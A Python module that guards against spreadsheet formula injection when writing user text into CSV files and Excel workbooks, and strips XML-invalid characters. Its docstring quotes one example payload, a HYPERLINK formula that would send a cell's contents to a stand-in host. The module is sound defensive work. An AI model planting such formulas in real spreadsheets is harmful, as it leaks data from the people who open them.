"""Text into spreadsheets and CSV as text: never a formula, never a character the file cannot hold.

Everything Huxiao writes for Excel and WPS (the ledger, the reports, a batch's manifest, the
import templates) goes through here, because what it writes came from people, some of them
strangers (a 随手拍 description becomes a hazard's once staff accept it):

- A value starting with `=`, `+`, `-`, `@`, tab or CR would start a formula when the file is
  opened (`=HYPERLINK("http://x/?"&A1,"click")`). OWASP's CSV-injection guidance: prefix it with
  a single quote, and quote every text field, so no cell starts a formula and no separator
  inside one (a `;` where Excel's list separator is `;`) starts another. In a workbook such a
  value is a text cell with Excel's quote prefix: shown as typed, and still text if edited.
- Characters XML cannot hold (C0 controls but tab and line breaks, lone surrogates, U+FFFE and
  U+FFFF) are dropped: one of them made openpyxl refuse the whole ledger, for everyone.
"""

import csv
import io
import re

from openpyxl.worksheet.worksheet import Worksheet

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_NOT_XML = re.compile("[\u0000-\u0008\u000b\u000c\u000e-\u001f\ud800-\udfff\ufffe\uffff]")


def xml_safe(text: str) -> str:
    """The text without the characters an XML file (so a workbook) cannot hold."""
    return _NOT_XML.sub("", text)


def starts_formula(text: str) -> bool:
    return text.startswith(FORMULA_STARTS)


def csv_value(value):
    """A value for a CSV cell: text cleaned and, if it could start a formula, prefixed with a quote."""
    if not isinstance(value, str):
        return value
    text = xml_safe(value)
    return "'" + text if starts_formula(text) else text


def csv_bytes(rows) -> bytes:
    """Rows (the header first) as CSV in UTF-8 with a BOM, which Excel needs to read Chinese; text fields quoted."""
    out = io.StringIO()
    writer = csv.writer(out, quoting=csv.QUOTE_NONNUMERIC)
    writer.writerows([csv_value(v) for v in row] for row in rows)
    return out.getvalue().encode("utf-8-sig")


class CsvFile:
    """A CSV file written row by row (a print batch's manifest), with the same rules as `csv_bytes`."""

    def __init__(self, fh, fieldnames: list[str]):
        self.writer = csv.DictWriter(fh, fieldnames=fieldnames, quoting=csv.QUOTE_NONNUMERIC)

    def writeheader(self) -> None:
        self.writer.writeheader()

    def writerow(self, row: dict) -> None:
        self.writer.writerow({key: csv_value(value) for key, value in row.items()})


def append_row(sheet: Worksheet, values) -> None:
    """Append a row to a worksheet: text is written as text, whatever it starts with."""
    cleaned = [xml_safe(v) if isinstance(v, str) else v for v in values]
    sheet.append(cleaned)
    for cell, value in zip(sheet[sheet.max_row], cleaned):
        if isinstance(value, str) and starts_formula(value):
            cell.data_type = "s"  # openpyxl makes any text starting with "=" a formula
            cell.quotePrefix = True
